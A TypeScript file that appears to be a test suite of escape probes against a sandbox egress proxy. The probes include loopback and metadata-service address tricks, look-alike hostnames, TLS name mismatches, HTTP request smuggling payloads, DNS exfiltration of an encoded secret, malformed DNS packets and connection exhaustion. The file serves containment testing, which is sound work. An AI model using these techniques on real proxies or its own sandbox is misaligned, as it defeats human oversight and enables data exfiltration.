import { createSocket } from 'node:dgram'
import { promises as dns, lookup } from 'node:dns'
import { once } from 'node:events'
import { Agent, get } from 'node:http'
import { connect } from 'node:net'
import { promisify } from 'node:util'
import type { Job, Probe } from './job.ts'
import {
  answered,
  ask,
  coded,
  exchange,
  hello,
  helloWithHiddenName,
  proxy,
  secured,
  status,
  tunnel,
} from './wire.ts'

const addressOf = promisify(lookup)

/** Asks for a page without a proxy, as programs do that know of none. */
async function page(url: string): Promise<string> {
  const request = get(url, { agent: new Agent(), timeout: 2_000 })
  request.on('timeout', () => request.destroy(coded('silent')))
  const [response] = await once(request, 'response')
  response.resume()
  return String(response.statusCode)
}

async function direct(host: string, port: number, name: string | undefined): Promise<string> {
  const socket = connect({ host, port })
  await once(socket, 'connect')
  return secured(socket, name)
}

/** One request in the proxy's form, with headers as they are written. */
function request(job: Job, ...headers: readonly string[]): readonly string[] {
  const { allowed, http } = job.egress
  return [`GET http://${allowed}:${http}/asked HTTP/1.1`, ...headers, 'Connection: close', '', '']
}

async function through(host: string, port: number): Promise<string> {
  const socket = await tunnel(host, port)
  socket.destroy()
  return 'open'
}

const CONTROLS: Readonly<Record<string, Probe>> = {
  'listed host by fetch': async ({ egress }) =>
    String((await fetch(`http://${egress.allowed}:${egress.http}/`)).status),
  'listed host without a proxy': ({ egress }) => page(`http://${egress.allowed}:${egress.http}/`),
  'listed host, TLS without a proxy': ({ egress }) =>
    direct(egress.allowed, egress.tls, egress.allowed),
  'listed host by tunnel': async ({ egress }) =>
    secured(await tunnel(egress.allowed, egress.tls), egress.allowed),
}

const HOSTS: Readonly<Record<string, Probe>> = {
  'host that is not listed': ({ egress }) => through(egress.denied, egress.tls),
  'page of a host that is not listed': ({ egress }) =>
    ask(`GET http://${egress.denied}:${egress.http}/ HTTP/1.1`, `Host: ${egress.denied}`, '', ''),
  'port that is not listed': ({ egress }) => through(egress.allowed, egress.unlisted),
  'port of SSH': ({ egress }) => through(egress.allowed, 22),
  'listed name as a prefix': ({ egress }) => through(`${egress.allowed}.evil.test`, egress.tls),
  'listed name as a suffix': ({ egress }) => through(`evil-${egress.allowed}`, egress.tls),
  'name below a listed one': ({ egress }) => through(`below.${egress.allowed}`, egress.tls),
  'metadata service by tunnel': () => through('169.254.169.254', 80),
  'loopback by tunnel': ({ egress }) => through('127.0.0.1', egress.tls),
  'loopback by name': ({ egress }) => through('localhost', egress.tls),
  'loopback, mapped': ({ egress }) => through('[::ffff:127.0.0.1]', egress.tls),
  'loopback in hexadecimal': ({ egress }) => through('0x7f000001', egress.tls),
  'loopback as one number': ({ egress }) => through('2130706433', egress.tls),
  'loopback, short': ({ egress }) => through('127.1', egress.tls),
  'name that turned to the loopback': ({ egress }) => through(egress.rebound, egress.tls),
  'name that turned to the metadata service': ({ egress }) => through(egress.metadata, egress.tls),
  'number that no name stands for': ({ egress }) =>
    direct('127.64.200.200', egress.tls, egress.allowed),
  'own loopback, direct': ({ egress }) => direct('127.0.0.1', egress.tls, egress.allowed),
}

const TLS: Readonly<Record<string, Probe>> = {
  'another name in the tunnel': async ({ egress }) =>
    secured(await tunnel(egress.allowed, egress.tls), egress.denied),
  'no name in the tunnel': async ({ egress }) =>
    secured(await tunnel(egress.allowed, egress.tls), undefined),
  'no TLS in the tunnel': async ({ egress }) =>
    answered(await tunnel(egress.allowed, egress.tls), 'SSH-2.0-probe\r\n'),
  'clear text in the tunnel': async ({ egress }) =>
    answered(await tunnel(egress.allowed, egress.tls), 'GET / HTTP/1.0\r\n\r\n'),
  'hidden name behind another': async ({ egress }) =>
    answered(await tunnel(egress.allowed, egress.tls), await helloWithHiddenName(egress.denied)),
  'half a greeting in the tunnel': async ({ egress }) => {
    const socket = await tunnel(egress.allowed, egress.tls)
    return answered(socket, (await hello(egress.denied)).subarray(0, 40))
  },
  'another name without a proxy': async ({ egress }) =>
    direct(egress.allowed, egress.tls, egress.denied),
  'no name without a proxy': async ({ egress }) => {
    const { address } = await addressOf(egress.allowed)
    return direct(address, egress.tls, undefined)
  },
}

const REQUESTS: Readonly<Record<string, Probe>> = {
  'header of another host': (job) => ask(...request(job, `Host: ${job.egress.denied}`)),
  'two headers of a host': (job) =>
    ask(
      ...request(
        job,
        `Host: ${job.egress.allowed}:${job.egress.http}`,
        `Host: ${job.egress.denied}`,
      ),
    ),
  'header with a space before its colon': (job) =>
    ask(...request(job, `Host : ${job.egress.denied}`)),
  'folded header': (job) =>
    ask(
      ...request(
        job,
        `Host: ${job.egress.allowed}:${job.egress.http}`,
        'X-A: b',
        ` Host: ${job.egress.denied}`,
      ),
    ),
  'length and chunks': ({ egress }) =>
    ask(
      `POST http://${egress.allowed}:${egress.http}/asked HTTP/1.1`,
      `Host: ${egress.allowed}:${egress.http}`,
      'Content-Length: 4',
      'Transfer-Encoding: chunked',
      '',
      '0',
      '',
      'GET /smuggled HTTP/1.1',
      `Host: ${egress.denied}`,
      '',
      '',
    ),
  'chunks by another spelling': ({ egress }) =>
    ask(
      `POST http://${egress.allowed}:${egress.http}/asked HTTP/1.1`,
      `Host: ${egress.allowed}:${egress.http}`,
      'Content-Length: 48',
      'Transfer-Encoding: xchunked',
      '',
      'GET /smuggled HTTP/1.1',
      `Host: ${egress.denied}`,
      '',
      '',
    ),
  'second request in one piece': async ({ egress }) => {
    const host = `Host: ${egress.allowed}:${egress.http}`
    const first = [`GET http://${egress.allowed}:${egress.http}/asked HTTP/1.1`, host, '', '']
    const second = ['GET /smuggled HTTP/1.1', `Host: ${egress.denied}`, '', '']
    const text = await exchange(proxy(), [...first.slice(0, -1), ...second].join('\r\n'))
    return `${text.split('HTTP/1.1 200').length - 1} answers`
  },
  'host behind a name of a user': ({ egress }) =>
    ask(
      `GET http://${egress.allowed}@${egress.denied}:${egress.http}/ HTTP/1.1`,
      `Host: ${egress.denied}`,
      '',
      '',
    ),
  'target with a line feed': ({ egress }) =>
    ask(
      `GET http://${egress.allowed}:${egress.http}/\nHost: ${egress.denied} HTTP/1.1`,
      `Host: ${egress.allowed}:${egress.http}`,
      '',
      '',
    ),
  'target without a host': () => ask('GET /asked HTTP/1.1', 'Host: 127.0.0.1', '', ''),
  'other protocol in the target': ({ egress }) =>
    ask(`GET https://${egress.allowed}:${egress.tls}/ HTTP/1.1`, `Host: ${egress.allowed}`, '', ''),
  'change of protocol': (job) =>
    ask(
      ...request(job, `Host: ${job.egress.allowed}:${job.egress.http}`, 'Upgrade: raw').with(
        -3,
        'Connection: Upgrade',
      ),
    ),
  'tunnel with a path': ({ egress }) =>
    ask(`CONNECT ${egress.denied}:${egress.tls}/${egress.allowed}:${egress.tls} HTTP/1.1`, '', ''),
  'tunnel with two hosts': ({ egress }) =>
    ask(`CONNECT ${egress.allowed}:${egress.tls} ${egress.denied}:${egress.tls} HTTP/1.1`, '', ''),
  'tunnel with a zero in its name': ({ egress }) =>
    ask(`CONNECT ${egress.denied}\0.${egress.allowed}:${egress.tls} HTTP/1.1`, '', ''),
  'header without an end': async ({ egress }) => {
    const head = `GET http://${egress.allowed}:${egress.http}/ HTTP/1.1\r\nX: ${'x'.repeat(1 << 20)}`
    return status(await exchange(proxy(), head))
  },
}

const NAMES: Readonly<Record<string, Probe>> = {
  'name that is not listed': async ({ egress }) => (await addressOf(egress.denied)).address,
  'name that carries data': async ({ egress }) =>
    (await addressOf(`c2VjcmV0LW9mLXRoZS11c2Vy.${egress.denied}`)).address,
  'data below a listed name': async ({ egress }) =>
    (await addressOf(`c2VjcmV0LW9mLXRoZS11c2Vy.${egress.allowed}`)).address,
  'text of a name': async ({ egress }) => (await dns.resolveTxt(egress.denied)).join(),
  'noise to the name service': async ({ egress }) => {
    const socket = createSocket('udp4')
    const noise = [
      Buffer.alloc(0),
      Buffer.alloc(12),
      Buffer.alloc(4_000, 0xff),
      Buffer.from('0001010000010000000000000c00c00c00010001', 'hex'),
      Buffer.from('000101000001000000000000c00c00010001', 'hex'),
      Buffer.from('0001010000ff00000000000001610000010001', 'hex'),
      Buffer.concat([Buffer.from('000101000001000000000000', 'hex'), Buffer.alloc(500, 63)]),
    ]
    for (const piece of noise)
      await new Promise((done) => socket.send(piece, 53, '127.0.0.1', done))
    socket.close()
    return (await addressOf(egress.allowed)).address === '' ? 'silent' : 'still answers'
  },
}

/** Holds many connections that say nothing, or very little: afterwards others must be served. */
async function idle(job: Job): Promise<string> {
  const sockets = Array.from({ length: 200 }, () => connect(proxy()))
  for (const [at, socket] of sockets.entries()) {
    socket.on('error', () => {})
    if (at % 2 === 0) socket.on('connect', () => socket.write('CONNECT '))
  }
  await new Promise((done) => setTimeout(done, 300))
  for (const socket of sockets) socket.destroy()
  await new Promise((done) => setTimeout(done, 100))
  return page(`http://${job.egress.allowed}:${job.egress.http}/`)
}

/** Ways out through what the sandbox offers. */
export const EGRESS: Readonly<Record<string, Probe>> = {
  ...CONTROLS,
  ...HOSTS,
  ...TLS,
  ...REQUESTS,
  ...NAMES,
}

/** Tried alone: it takes all there is. */
export const EGRESS_AT_LAST: Readonly<Record<string, Probe>> = { 'many idle connections': idle }
